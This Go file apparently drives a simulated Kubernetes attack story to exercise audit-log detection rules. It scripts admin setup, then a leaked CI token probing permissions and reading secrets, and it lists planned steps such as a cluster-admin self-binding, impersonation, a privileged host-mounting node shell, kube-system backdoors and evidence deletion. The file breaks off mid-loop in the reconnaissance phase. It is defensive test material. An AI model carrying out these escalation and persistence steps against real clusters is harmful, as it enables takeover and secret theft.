package main

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"log"
	"net/url"
	"strings"
	"time"

	admissionv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authnv1 "k8s.io/api/authentication/v1"
	authzv1 "k8s.io/api/authorization/v1"
	certv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"
)

// storyRule is a rule the story means to fire, and the step that fires it.
type storyRule struct{ rule, step string }

// storyRules lists every rule the story intends to fire; the recorder (and
// the test) fail when one of them does not. Rules that fire only as a side
// effect (the info-level trail, hygiene findings) are listed too where the
// story relies on them.
var storyRules = []storyRule{
	// benign platform work
	{"namespace-created", "A1 admin creates the shop, payments and ops namespaces"},
	{"validating-webhook-changed", "A2 admin installs the restrict-privileged-pods ValidatingAdmissionPolicy"},
	{"configmap-with-credentials", "A3 admin puts DB_PASSWORD/STRIPE_API_KEY into ConfigMap payments-config"},
	{"configmap-created", "A3 admin creates ConfigMaps"},
	{"secret-created", "A4 admin creates the application Secrets"},
	{"serviceaccount-created", "A5 admin creates the ci-deployer, compliance-auditor and prometheus service accounts"},
	{"role-created", "A6 admin creates the CI, monitoring and RBAC-manager ClusterRoles"},
	{"role-escalate-bind-impersonate", "A6 ClusterRole ci-rbac-manager grants bind (the misconfiguration the attack exploits)"},
	{"role-nodes-proxy", "A6 ClusterRole prometheus-scrape grants nodes/proxy"},
	{"binding-created", "A6 admin binds the roles"},
	{"serviceaccount-token-requested", "A7 admin mints the CI token (kubectl create token)"},
	{"workload-created", "B1 CI deploys storefront, cart, catalog, payments-api, ledger"},
	{"service-created", "B2 CI creates the Services"},
	{"loadbalancer-service", "B2 storefront is exposed through a LoadBalancer"},
	{"pod-exec", "C2 admin opens a shell in a cart pod"},
	// the attack
	{"failed-authentication-burst", "D1 attacker tries expired tokens from 203.0.113.77"},
	{"forbidden-burst", "D2/D4 anonymous and leaked-token probes are denied"},
	{"serviceaccount-rules-review", "D3 leaked CI token runs kubectl auth can-i --list"},
	{"permission-enumeration", "D3 leaked CI token runs a burst of can-i checks"},
	{"secrets-listed-cluster-wide", "D4 kubectl get secrets -A"},
	{"kube-system-secrets-listed", "D4 kubectl get secrets -n kube-system"},
	{"many-secrets-read", "D5 leaked CI token reads every Secret of shop and payments"},
	{"cluster-admin-binding", "E1 leaked CI token binds itself to cluster-admin"},
	{"privileged-impersonation", "E3 kubectl --as=system:kube-controller-manager"},
	{"workload-created", "F1 attacker creates Deployment payments-api-debug"},
	{"failed-create-admission-denied", "F1 the ReplicaSet's pods are denied by the admission policy (Event)"},
	{"admission-webhook-deleted", "F2 attacker deletes the admission policy and its binding"},
	{"privileged-container", "F3 node-shell pod"},
	{"sensitive-host-path-mount", "F3 node-shell pod mounts /"},
	{"host-network-pod", "F3 node-shell pod"},
	{"host-pid-pod", "F3 node-shell pod"},
	{"host-ipc-pod", "F3 node-shell pod"},
	{"dangerous-capabilities-added", "F3 node-shell pod adds SYS_ADMIN"},
	{"privilege-escalation-allowed", "F3 node-shell pod"},
	{"container-runs-as-root", "F3 node-shell pod"},
	{"security-profile-unconfined", "F3 node-shell pod"},
	{"unsafe-sysctls", "F3 node-shell pod sets kernel.core_pattern"},
	{"image-outside-approved-registries", "F3 image from 198.51.100.23:5000"},
	{"image-mutable-tag", "F3 image :latest"},
	{"first-exec-by-user", "F4 leaked CI token execs for the first time"},
	{"cluster-admin-then-exec", "F4 exec within 10 minutes of the cluster-admin binding"},
	{"ephemeral-container-added", "F5 kubectl debug into a payments-api pod"},
	{"pod-port-forward", "F6 port-forward to payments-api"},
	{"node-proxy-access", "F7 kubelet configz through nodes/proxy"},
	{"kubelet-exec-via-node-proxy", "F7 kubelet /run through nodes/proxy"},
	{"nodeport-service", "F8 NodePort service to the node shell"},
	{"service-external-ips", "F8 Service with externalIPs"},
	{"serviceaccount-created-in-system-namespace", "G1 backdoor service account kube-system/metrics-relay"},
	{"role-secrets-access", "G3 ClusterRole system:node-metrics-relay reads secrets"},
	{"role-pod-exec", "G3 ClusterRole system:node-metrics-relay grants pods/exec"},
	{"builtin-cluster-role-changed", "G5 attacker widens system:node-metrics-relay"},
	{"role-patch-adds-grant", "G5 the JSON patch adds */*/*"},
	{"role-wildcard-verbs", "G5 wildcard rule"},
	{"role-wildcard-resources", "G5 wildcard rule"},
	{"daemonset-in-system-namespace", "G6 DaemonSet kube-system/kube-metrics-relay"},
	{"pod-created-in-system-namespace", "G6 the DaemonSet's pods (one alert per owner)"},
	{"cronjob-in-system-namespace", "G7 CronJob kube-system/etcd-defrag"},
	{"workload-created-in-system-namespace", "G8 Deployment kube-system/coredns-autoscaler"},
	{"pod-exec-system-namespace", "G9 leaked CI token execs into a kube-system pod"},
	{"csr-created", "G10 CSR for a kubeadm:cluster-admins client certificate"},
	{"csr-approved", "G10 attacker approves it"},
	{"binding-to-anonymous", "G11 RoleBinding to system:anonymous"},
	{"anonymous-request-allowed", "G11 anonymous reads payments secrets"},
	{"mutating-webhook-changed", "G12 MutatingWebhookConfiguration pod-metrics-injector"},
	{"binding-deleted", "H0 attacker deletes the compliance scanner's RoleBindings"},
	{"role-deleted", "H0 attacker deletes ClusterRole compliance-reader"},
	{"serviceaccount-deleted", "H0 attacker deletes service account compliance-auditor"},
	{"events-deleted", "H1 attacker deletes the payments Events"},
	{"secret-delete-burst", "H2 attacker deletes the Secrets"},
	{"secret-deleted", "H2 attacker deletes the Secrets"},
	{"mass-deletion", "H4 attacker deletes the workloads"},
	{"workload-deleted", "H4"},
	{"service-deleted", "H4"},
	{"configmap-deleted", "H4"},
	{"namespace-deleted", "H5 attacker deletes the payments namespace"},
	// Events (kubelet, scheduler, controllers, node-problem-detector)
	{"crashloop-backoff", "events: cart keeps crashing (BackOff, count 1 -> 9)"},
	{"unhealthy-probe", "events: catalog readiness probe (Unhealthy, count 1 -> 21)"},
	{"failed-scheduling", "events: ledger asks for 24Gi"},
	{"node-pressure", "events: disk pressure on the first node"},
	{"pod-evicted", "events: a storefront pod is evicted"},
	{"oom-killing", "events: the miner in the node shell is OOM-killed"},
	{"system-oom", "events: system OOM on the first node"},
	{"image-pull-failure", "events: the relay image cannot be pulled on two nodes"},
	{"failed-mount", "events: payments-api cannot mount the deleted payments-db Secret"},
	{"node-not-ready", "events: the first node goes NotReady"},
	{"node-rebooted", "events: the first node reboots"},
}

// pace is the pause between phases: the story spreads over a minute or two
// of event time, as people and tools do, so stateful windows see a timeline.
const pace = 6 * time.Second

// step logs a step and leaves a second between steps, as a person at a
// terminal would.
func (s *scenario) step(name string) {
	time.Sleep(time.Second)
	log.Printf("step %s", name)
}

func opts() metav1.CreateOptions {
	return metav1.CreateOptions{FieldManager: "kubectl-client-side-apply"}
}

// expectDenied wants a probe refused (403, 401 or 404): the attacker's and
// the developer's probes.
func expectDenied(err error) error {
	if err == nil {
		return fmt.Errorf("expected a denial, the request succeeded")
	}
	if apierrors.IsForbidden(err) || apierrors.IsUnauthorized(err) || apierrors.IsNotFound(err) {
		return nil
	}
	return err
}

func (s *scenario) runStory(ctx context.Context) error {
	for _, ph := range []struct {
		name string
		fn   func(context.Context) error
	}{
		{"A platform setup (admin)", s.phaseSetup},
		{"B CI deploys", s.phaseDeploy},
		{"C day-to-day operations", s.phaseOperate},
		{"D attack: reconnaissance", s.phaseRecon},
		{"E attack: escalation", s.phaseEscalate},
		{"F attack: execution", s.phaseExecute},
		{"G attack: persistence", s.phasePersist},
		{"H attack: impact", s.phaseImpact},
	} {
		log.Printf("phase %s", ph.name)
		if err := ph.fn(ctx); err != nil {
			return fmt.Errorf("phase %s: %w", ph.name, err)
		}
		time.Sleep(pace)
	}
	return nil
}

func (s *scenario) nsOf(where string) string {
	switch where {
	case "shop":
		return s.shop
	case "payments":
		return s.payments
	}
	return s.ops
}

// ---------------------------------------------------------------- phase A

func (s *scenario) phaseSetup(ctx context.Context) error {
	a := s.admin.cs
	s.step("A1 namespaces")
	for _, ns := range []struct{ name, team string }{{s.shop, "storefront"}, {s.payments, "payments"}, {s.ops, "platform"}} {
		if _, err := a.CoreV1().Namespaces().Get(ctx, ns.name, metav1.GetOptions{}); !apierrors.IsNotFound(err) {
			return fmt.Errorf("namespace %s: want NotFound, got %v", ns.name, err)
		}
		_, err := a.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns.name,
			Labels: map[string]string{"team": ns.team, "env": "prod", "pci-scope": fmt.Sprint(ns.team == "payments")}}}, opts())
		if err != nil {
			return err
		}
	}

	s.step("A2 admission policy")
	vap := &admissionv1.ValidatingAdmissionPolicy{
		ObjectMeta: metav1.ObjectMeta{Name: "restrict-privileged-pods-" + s.sfx},
		Spec: admissionv1.ValidatingAdmissionPolicySpec{
			FailurePolicy: ptr.To(admissionv1.Fail),
			MatchConstraints: &admissionv1.MatchResources{ResourceRules: []admissionv1.NamedRuleWithOperations{{
				RuleWithOperations: admissionv1.RuleWithOperations{
					Operations: []admissionv1.OperationType{admissionv1.Create, admissionv1.Update},
					Rule:       admissionv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}},
				},
			}}},
			Validations: []admissionv1.Validation{{
				Expression: "object.spec.containers.all(c, !has(c.securityContext) || !has(c.securityContext.privileged) || !c.securityContext.privileged)",
				Message:    "privileged containers are not allowed in PCI namespaces",
			}},
		},
	}
	if _, err := a.AdmissionregistrationV1().ValidatingAdmissionPolicies().Create(ctx, vap, opts()); err != nil {
		return err
	}
	// Bound to this run's namespaces only: the ground is shared.
	vapb := &admissionv1.ValidatingAdmissionPolicyBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "restrict-privileged-pods-" + s.sfx},
		Spec: admissionv1.ValidatingAdmissionPolicyBindingSpec{
			PolicyName:        vap.Name,
			ValidationActions: []admissionv1.ValidationAction{admissionv1.Deny},
			MatchResources: &admissionv1.MatchResources{NamespaceSelector: &metav1.LabelSelector{MatchExpressions: []metav1.LabelSelectorRequirement{{
				Key: "kubernetes.io/metadata.name", Operator: metav1.LabelSelectorOpIn, Values: []string{s.shop, s.payments},
			}}}},
		},
	}
	if _, err := a.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Create(ctx, vapb, opts()); err != nil {
		return err
	}

	s.step("A3 configmaps")
	cms := []*corev1.ConfigMap{
		{ObjectMeta: metav1.ObjectMeta{Name: "storefront-config", Namespace: s.shop},
			Data: map[string]string{"THEME": "autumn-2026", "CURRENCY": "EUR", "CATALOG_URL": "http://catalog." + s.shop + ".svc"}},
		{ObjectMeta: metav1.ObjectMeta{Name: "payments-config", Namespace: s.payments},
			Data: map[string]string{"DB_HOST": "payments-db.internal.acme.example", "DB_USER": "payments_app",
				"DB_PASSWORD": plantedValues[0], "STRIPE_API_KEY": plantedValues[1], "LOG_LEVEL": "info"}},
	}
	for _, cm := range cms {
		if _, err := a.CoreV1().ConfigMaps(cm.Namespace).Create(ctx, cm, opts()); err != nil {
			return err
		}
	}

	s.step("A4 secrets")
	for _, sec := range scenarioSecrets {
		_, err := a.CoreV1().Secrets(s.nsOf(sec.where)).Create(ctx, &corev1.Secret{
			ObjectMeta: metav1.ObjectMeta{Name: sec.name, Namespace: s.nsOf(sec.where)}, Type: sec.typ, StringData: sec.data}, opts())
		if err != nil {
			return err
		}
	}

	s.step("A5 service accounts")
	for _, sa := range []struct{ ns, name string }{{s.shop, "ci-deployer"}, {s.ops, "compliance-auditor"}, {s.ops, "prometheus"}} {
		if _, err := a.CoreV1().ServiceAccounts(sa.ns).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: sa.name}}, opts()); err != nil {
			return err
		}
	}

	s.step("A6 rbac")
	ciUser := rbacv1.Subject{Kind: "ServiceAccount", Name: "ci-deployer", Namespace: s.shop}
	roles := []*rbacv1.ClusterRole{
		{ObjectMeta: metav1.ObjectMeta{Name: "ci-deployer-" + s.sfx}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{"apps"}, Resources: []string{"deployments", "replicasets"}, Verbs: []string{"get", "list", "watch", "create", "update", "patch", "delete"}},
			{APIGroups: []string{""}, Resources: []string{"services", "configmaps", "pods"}, Verbs: []string{"get", "list", "watch", "create", "update", "patch", "delete"}},
			{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get", "list"}},
		}},
		// "So that the CI can install charts that ship RBAC": create any
		// ClusterRoleBinding and bind any ClusterRole — cluster-admin included.
		{ObjectMeta: metav1.ObjectMeta{Name: "ci-rbac-manager-" + s.sfx}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{"rbac.authorization.k8s.io"}, Resources: []string{"clusterrolebindings", "rolebindings"}, Verbs: []string{"get", "list", "create"}},
			{APIGroups: []string{"rbac.authorization.k8s.io"}, Resources: []string{"clusterroles"}, Verbs: []string{"get", "list", "bind"}},
		}},
		// Read-only, no Secrets. (The ground's aggregated "view" role is empty:
		// no controller manager aggregates it.)
		{ObjectMeta: metav1.ObjectMeta{Name: "compliance-reader-" + s.sfx}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"pods", "services", "serviceaccounts", "configmaps"}, Verbs: []string{"get", "list", "watch"}},
			{APIGroups: []string{"apps"}, Resources: []string{"deployments", "replicasets"}, Verbs: []string{"get", "list", "watch"}},
			{APIGroups: []string{"rbac.authorization.k8s.io"}, Resources: []string{"rolebindings", "roles"}, Verbs: []string{"get", "list", "watch"}},
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "prometheus-scrape-" + s.sfx}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"nodes", "nodes/proxy", "nodes/metrics", "services", "endpoints", "pods"}, Verbs: []string{"get", "list", "watch"}},
			{APIGroups: []string{"discovery.k8s.io"}, Resources: []string{"endpointslices"}, Verbs: []string{"get", "list", "watch"}},
			{NonResourceURLs: []string{"/metrics"}, Verbs: []string{"get"}},
		}},
	}
	for _, r := range roles {
		if _, err := a.RbacV1().ClusterRoles().Create(ctx, r, opts()); err != nil {
			return err
		}
	}
	for _, ns := range []string{s.shop, s.payments} {
		_, err := a.RbacV1().RoleBindings(ns).Create(ctx, &rbacv1.RoleBinding{
			ObjectMeta: metav1.ObjectMeta{Name: "ci-deployer", Namespace: ns},
			RoleRef:    rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: roles[0].Name},
			Subjects:   []rbacv1.Subject{ciUser}}, opts())
		if err != nil {
			return err
		}
		// The auditor reads everything in the application namespaces.
		_, err = a.RbacV1().RoleBindings(ns).Create(ctx, &rbacv1.RoleBinding{
			ObjectMeta: metav1.ObjectMeta{Name: "compliance-auditor", Namespace: ns},
			RoleRef:    rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: roles[2].Name},
			Subjects:   []rbacv1.Subject{{Kind: "ServiceAccount", Name: "compliance-auditor", Namespace: s.ops}}}, opts())
		if err != nil {
			return err
		}
	}
	for _, b := range []*rbacv1.ClusterRoleBinding{
		{ObjectMeta: metav1.ObjectMeta{Name: "ci-rbac-manager-" + s.sfx},
			RoleRef:  rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: roles[1].Name},
			Subjects: []rbacv1.Subject{ciUser}},
		{ObjectMeta: metav1.ObjectMeta{Name: "prometheus-scrape-" + s.sfx},
			RoleRef:  rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: roles[3].Name},
			Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Name: "prometheus", Namespace: s.ops}}},
	} {
		if _, err := a.RbacV1().ClusterRoleBindings().Create(ctx, b, opts()); err != nil {
			return err
		}
	}

	s.step("A7 tokens")
	var err error
	// The admin mints the CI token by hand (kubectl create token) and stores
	// it in the CI system: the token that leaks later.
	if s.ciToken, err = s.token(ctx, s.admin, s.shop, "ci-deployer", 3600); err != nil {
		return err
	}
	// The workloads' own tokens come from the kubelet (scaffolding).
	if s.auditorToken, err = s.token(ctx, s.scaffold, s.ops, "compliance-auditor", 3600); err != nil {
		return err
	}
	if s.promToken, err = s.token(ctx, s.scaffold, s.ops, "prometheus", 3600); err != nil {
		return err
	}
	if s.promToken2, err = s.token(ctx, s.scaffold, s.ops, "prometheus", 3600); err != nil {
		return err
	}
	mk := func(spec actorSpec) *actor {
		if err != nil {
			return nil
		}
		var a *actor
		a, err = s.newActor(spec)
		return a
	}
	s.ci = mk(actorSpec{name: "ci", token: s.ciToken, ip: ipCI, userAgent: uaCI, tracked: true})
	s.attacker = mk(actorSpec{name: "attacker", token: s.ciToken, ip: ipAttacker, userAgent: uaAttacker, tracked: true})
	s.impersonator = mk(actorSpec{name: "attacker-as-kcm", token: s.ciToken, ip: ipAttacker, userAgent: uaAttacker, tracked: true,
		impersonate: "system:kube-controller-manager", impersonateGroups: []string{"system:authenticated"}})
	s.auditor = mk(actorSpec{name: "auditor", token: s.auditorToken, ip: ipAuditor, userAgent: uaAuditor, tracked: true})
	s.monitors = []*actor{
		mk(actorSpec{name: "prometheus-0", token: s.promToken, ip: ipMonitor, userAgent: uaMonitor, tracked: true}),
		mk(actorSpec{name: "prometheus-1", token: s.promToken2, ip: ipMonitor2, userAgent: uaMonitor, tracked: true}),
	}
	s.lbs = []*actor{
		mk(actorSpec{name: "load-balancer-a", ip: ipLB, userAgent: uaLB, tracked: true}),
		mk(actorSpec{name: "load-balancer-b", ip: ipLB2, userAgent: uaLB, tracked: true}),
	}
	if err != nil {
		return err
	}

	s.step("A8 a developer without grants looks around")
	for _, f := range []func() error{
		func() error { _, err := s.dev.cs.CoreV1().Pods(s.shop).List(ctx, metav1.ListOptions{}); return err },
		func() error {
			_, err := s.dev.cs.AppsV1().Deployments(s.shop).List(ctx, metav1.ListOptions{})
			return err
		},
		func() error {
			_, err := s.dev.cs.CoreV1().ConfigMaps(s.shop).Get(ctx, "storefront-config", metav1.GetOptions{})
			return err
		},
	} {
		if err := expectDenied(f()); err != nil {
			return err
		}
	}
	return nil
}

// ---------------------------------------------------------------- phase B

func (s *scenario) phaseDeploy(ctx context.Context) error {
	ci := s.ci.cs
	s.step("B1 deployments (kubectl apply from CI)")
	for _, ap := range apps {
		ns := s.nsOf(ap.where)
		// kubectl apply: GET (404), then create.
		if _, err := ci.AppsV1().Deployments(ns).Get(ctx, ap.name, metav1.GetOptions{}); !apierrors.IsNotFound(err) {
			return fmt.Errorf("deployment %s/%s: want NotFound, got %v", ns, ap.name, err)
		}
		d, err := ci.AppsV1().Deployments(ns).Create(ctx, deployment(ns, ap), opts())
		if err != nil {
			return err
		}
		rs, err := s.reconcileDeployment(ctx, d, ap.bind)
		if err != nil {
			return err
		}
		s.extra["rs:"+ap.name] = rs.Name
		d.Status.ObservedGeneration, d.Status.Replicas, d.Status.UpdatedReplicas = d.Generation, *d.Spec.Replicas, *d.Spec.Replicas
		if ap.bind {
			d.Status.ReadyReplicas, d.Status.AvailableReplicas = *d.Spec.Replicas, *d.Spec.Replicas
		}
		if _, err := s.deployCtl.cs.AppsV1().Deployments(ns).UpdateStatus(ctx, d, metav1.UpdateOptions{}); err != nil {
			return err
		}
	}
	s.step("B2 services")
	for _, ap := range apps {
		typ := corev1.ServiceTypeClusterIP
		if ap.name == "storefront" {
			typ = corev1.ServiceTypeLoadBalancer
		}
		if _, err := ci.CoreV1().Services(s.nsOf(ap.where)).Create(ctx, service(s.nsOf(ap.where), ap.name, ap.port, typ), opts()); err != nil {
			return err
		}
	}
	s.startBackground()

	s.step("B3 rollout status")
	for i := 0; i < 3; i++ {
		for _, ap := range apps {
			if _, err := ci.AppsV1().Deployments(s.nsOf(ap.where)).Get(ctx, ap.name, metav1.GetOptions{}); err != nil {
				return err
			}
		}
		time.Sleep(300 * time.Millisecond)
	}
	// The scheduler cannot place ledger (24Gi); the kubelet starts the rest,
	// and cart starts crashing, catalog fails its readiness probe.
	if err := s.emitPodEvent(ctx, "payments", "ledger", 0, "default-scheduler", "", "FailedScheduling", "Scheduling", corev1.EventTypeWarning,
		"0/3 nodes are available: 3 Insufficient memory. preemption: 0/3 nodes are available: 3 No preemption victims found for incoming pod.", ""); err != nil {
		return err
	}
	if err := s.emitPodEvent(ctx, "shop", "cart", 0, "kubelet", "", "BackOff", "Killing", corev1.EventTypeWarning,
		"Back-off restarting failed container cart in pod %s", "spec.containers{cart}"); err != nil {
		return err
	}
	if err := s.emitPodEvent(ctx, "shop", "catalog", 1, "kubelet", "", "Unhealthy", "Probing", corev1.EventTypeWarning,
		"Readiness probe failed: Get \"http://10.244.2.31:8080/healthz\": dial tcp 10.244.2.31:8080: connect: connection refused", "spec.containers{catalog}"); err != nil {
		return err
	}
	return nil
}

// ---------------------------------------------------------------- phase C

func (s *scenario) phaseOperate(ctx context.Context) error {
	a := s.admin.cs
	s.step("C1 admin scales cart and rolls out storefront 2.15.0")
	// kubectl scale: GET, then patch.
	if _, err := a.AppsV1().Deployments(s.shop).Get(ctx, "cart", metav1.GetOptions{}); err != nil {
		return err
	}
	if _, err := a.AppsV1().Deployments(s.shop).Patch(ctx, "cart", types.MergePatchType, []byte(`{"spec":{"replicas":3}}`), metav1.PatchOptions{}); err != nil {
		return err
	}
	rs, err := s.deployCtl.cs.AppsV1().ReplicaSets(s.shop).Get(ctx, s.extra["rs:cart"], metav1.GetOptions{})
	if err != nil {
		return err
	}
	if _, err := s.deployCtl.cs.AppsV1().ReplicaSets(s.shop).Patch(ctx, rs.Name, types.MergePatchType, []byte(`{"spec":{"replicas":3}}`), metav1.PatchOptions{}); err != nil {
		return err
	}
	if _, err := s.scaleRS(ctx, rs, 3, true); err != nil {
		return err
	}
	patch := `{"spec":{"template":{"spec":{"containers":[{"name":"storefront","image":"ghcr.io/acme-shop/storefront:2.15.0"}]}}},"metadata":{"annotations":{"kubernetes.io/change-cause":"release 2.15.0"}}}`
	sf, err := s.ci.cs.AppsV1().Deployments(s.shop).Patch(ctx, "storefront", types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{FieldManager: "kubectl-patch"})
	if err != nil {
		return err
	}
	sf.Annotations["deployment.kubernetes.io/revision"] = "2"
	newRS, err := s.reconcileDeployment(ctx, sf, true)
	if err != nil {
		return err
	}
	oldRS, err := s.deployCtl.cs.AppsV1().ReplicaSets(s.shop).Get(ctx, s.extra["rs:storefront"], metav1.GetOptions{})
	if err != nil {
		return err
	}
	s.extra["rs:storefront"] = newRS.Name
	if _, err := s.deployCtl.cs.AppsV1().ReplicaSets(s.shop).Patch(ctx, oldRS.Name, types.MergePatchType, []byte(`{"spec":{"replicas":0}}`), metav1.PatchOptions{}); err != nil {
		return err
	}
	// The old pods go; one of them was being evicted for disk pressure.
	s.mu.Lock()
	old := append([]podRef(nil), s.pods[s.shop+"/"+oldRS.Name]...)
	s.mu.Unlock()
	if len(old) > 0 {
		p := old[0]
		if _, err := s.ev.emit(ctx, nodeEvent(p.node, "kubelet", "NodeHasDiskPressure", "NodeHasDiskPressure", corev1.EventTypeNormal,
			"Node "+p.node+" status is now: NodeHasDiskPressure")); err != nil {
			return err
		}
		if _, err := s.ev.emit(ctx, podEvent(p, "kubelet", p.node, "Evicted", "Evict", corev1.EventTypeWarning,
			"The node was low on resource: ephemeral-storage. Threshold quantity: 10%, available: 6%. Container storefront was using 3012Mi, request is 0, has larger consumption of ephemeral-storage.", "")); err != nil {
			return err
		}
	}
	if _, err := s.scaleRS(ctx, oldRS, 0, true); err != nil {
		return err
	}
	for i := 0; i < 3; i++ {
		if _, err := s.ci.cs.AppsV1().Deployments(s.shop).Get(ctx, "storefront", metav1.GetOptions{}); err != nil {
			return err
		}
	}

	s.step("C2 admin debugs cart")
	if _, err := a.CoreV1().Pods(s.shop).List(ctx, metav1.ListOptions{LabelSelector: "app.kubernetes.io/name=cart"}); err != nil {
		return err
	}
	cart := s.podsOf("shop", "cart")[0]
	if _, err := s.admin.raw(ctx, "GET", fmt.Sprintf("/api/v1/namespaces/%s/pods/%s/log?container=cart&tailLines=100", cart.ns, cart.name), nil); err != nil {
		return err
	}
	if _, err := s.admin.upgrade(ctx, "GET", execPath(cart.ns, cart.name, "cart", "sh", "-c", "cat /proc/meminfo; ls /tmp"), true); err != nil {
		return err
	}
	if err := s.bumpPodEvents(ctx, 2); err != nil {
		return err
	}
	return nil
}

func (s *scenario) podsOf(where, app string) []podRef {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]podRef(nil), s.pods[s.nsOf(where)+"/"+s.extra["rs:"+app]]...)
}

func execPath(ns, pod, container string, cmd ...string) string {
	q := url.Values{}
	for _, c := range cmd {
		q.Add("command", c)
	}
	q.Set("container", container)
	q.Set("stdout", "true")
	q.Set("stderr", "true")
	return fmt.Sprintf("/api/v1/namespaces/%s/pods/%s/exec?%s", ns, pod, q.Encode())
}

// ---------------------------------------------------------------- phase D

func (s *scenario) phaseRecon(ctx context.Context) error {
	s.step("D1 expired tokens")
	for i := 0; i < 12; i++ {
		b := s.bogus[i%len(s.bogus)]
		_, err := b.cs.CoreV1().Namespaces().List(ctx, metav1.ListOptions{})
		if !apierrors.IsUnauthorized(err) {
			return fmt.Errorf("bogus token: want 401, got %v", err)
		}
	}

	s.step("D2 anonymous probes")
	for _, p := range []string{"/version", "/healthz", "/api/v1/namespaces/kube-system/secrets", "/api/v1/pods", "/api/v1/nodes",
		"/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", "/api/v1/namespaces/default/serviceaccounts",
		"/api/v1/namespaces/" + s.payments + "/secrets", "/api/v1/namespaces/" + s.shop + "/pods", "/api/v1/configmaps",
		"/apis/apps/v1/deployments", "/api/v1/namespaces/kube-system/configmaps/kubeadm-config", "/api/v1/secrets"} {
		if _, err := s.anon.raw(ctx, "GET", p, nil); err != nil {
			return err
		}
	}

	s.step("D3 permission enumeration with the leaked CI token")
	at := s.attacker.cs
	// A fresh kubectl starts with API discovery.
	for _, p := range []string{"/api?timeout=32s", "/apis?timeout=32s"} {
		if _, err := s.attacker.raw(ctx, "GET", p, nil); err != nil {
			return err
		}
	}
	if _, err := at.AuthenticationV1().SelfSubjectReviews().Create(ctx, &authnv1.SelfSubjectReview{}, metav1.CreateOptions{}); err != nil {
		return err
	}
	for _, ns := range []string{s.shop, s.payments, "default", "kube-system"} {
		if _, err := at.AuthorizationV1().SelfSubjectRulesReviews().Create(ctx, &authzv1.SelfSubjectRulesReview{Spec: authzv1.SelfSubjectRulesReviewSpec{Namespace: ns}}, metav1.CreateOptions{}); err != nil {
			return err
		}
	}
	for _, ra := range []authzv1.ResourceAttributes{
		{Verb: "create", Resource: "pods", Subresource: "exec", Namespace: s.shop},
		{Verb: "get", Resource: "secrets", Namespace: "kube-system"},
		{Verb: "list", Resource: "secrets"},
		{Verb: "create", Group: "rbac.authorization.k8s.io", Resource: "clusterrolebindings"},
		{Verb: "bind", Group: "rbac.authorization.k8s.io", Resource: "clusterroles", Name: "cluster-admin"},
		{Verb: "impersonate", Resource: "users"},
		{Verb: "create", Resource: "pods", Namespace: "kube-system"},
		{Verb: "create", Group: "apps", Resource: "daemonsets", Namespace: "kube-system"},
		{Verb: "get", Resource: "nodes", Subresource: "proxy"},
		{Verb: "create", Group: "certificates.k8s.io", Resource: "certificatesigningrequests"},
	} {
		ra := ra
		if _, err := at.AuthorizationV1().SelfSubjectAccessReviews().Create(ctx, &authzv1.SelfSubjectAccessReview{Spec: authzv1.SelfSubjectAccessReviewSpec{ResourceAttributes: &ra}}, metav1.CreateOptions{}); err != nil {
			return err
		}
	}

	s.step("D4 probing")
	probes := []func() error{
		func() error { _, err := at.CoreV1().Secrets("").List(ctx, metav1.ListOptions{}); return err },
		func() error { _, err := at.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{}); return err },
		func() error { _, err := at.CoreV1().Pods("").List(ctx, metav1.ListOptions{}); return err },
		func() error { _, err := at.CoreV1().Nodes().List(ctx, metav1.ListOptions{}); return err },
		func() error { _, err := at.CoreV1().Namespaces().List(ctx, metav1.ListOptions{}); return err },
		func() error { _, err := at.CoreV1().Pods("kube-system").List(ctx, metav1.ListOptions{}); return err },
		func() error {
			_, err := at.CoreV1().ConfigMaps("kube-system").Get(ctx, "kubeadm-config", metav1.GetOptions{})
			return err
		},
		func() error { _, err := at.AppsV1().DaemonSets("").List(ctx, metav1.ListOptions{}); return err },
		func() error { _, err := at.CoreV1().ServiceAccounts("").List(ctx, metav1.ListOptions{}); return err },
		func() error { _, err := at.CoreV1().Secrets("default").List(ctx, metav1.ListOptions{}); return err },
		func() error { _, err := at.CoreV1().PersistentVolumes().List(ctx, metav1.ListOptions{}); return err },
		func() error {
			code, err := s.attacker.upgrade(ctx, "POST", execPath(s.shop, s.podsOf("shop", "storefront")[0].name, "storefront", "sh"), false)
			if err == nil && code != 403 {
				return fmt.Errorf("exec without grant: want 403, got %d", code)
			}
			return apierrors.NewForbidden(corev1.Resource("pods/exec"), "", fmt.Errorf("denied"))
		},
	}
	for _, p := range probes {
		if err := expectDenied(p()); err != nil {
			return err
		}
	}

	s.step("D5 the leaked token reads what it may")
	for _, where := range []string{"shop", "payments"} {
		if _, err := at.CoreV1().Secrets(s.nsOf(where)).List(ctx, metav1.ListOptions{}); err != nil {
			return err
		}
	}
	for _, sec := range scenarioSecrets {
